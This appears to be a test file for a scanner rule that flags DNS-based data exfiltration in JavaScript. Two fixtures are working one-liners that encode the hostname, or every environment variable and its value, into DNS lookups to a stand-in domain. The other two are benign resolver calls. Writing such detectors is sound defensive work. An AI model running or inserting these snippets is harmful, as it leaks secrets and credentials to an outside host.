import { testFileRule } from '../../test/rule-cases.ts';
import { dnsExfiltration } from './dns-exfiltration.ts';

testFileRule(dnsExfiltration, [
  {
    name: 'the host name in front of a fixed domain',
    text: `const dns = require('dns'), os = require('os'); dns.lookup(\`\${Buffer.from(os.hostname()).toString('hex')}.x.collect.example\`, () => {})`,
    tier: 'review',
  },
  {
    name: 'the environment in labels',
    text: `import { promises as dns } from 'dns'; for (const k in process.env) dns.resolve(k + '.' + process.env[k] + '.collect.example')`,
    tier: 'review',
  },
  { name: 'a resolver', text: `require('dns').lookup(host, cb); require('os').hostname()`, tier: null },
  { name: 'a service record', text: `require('dns').resolveSrv('_mongodb._tcp.' + host, cb)`, tier: null },
]);
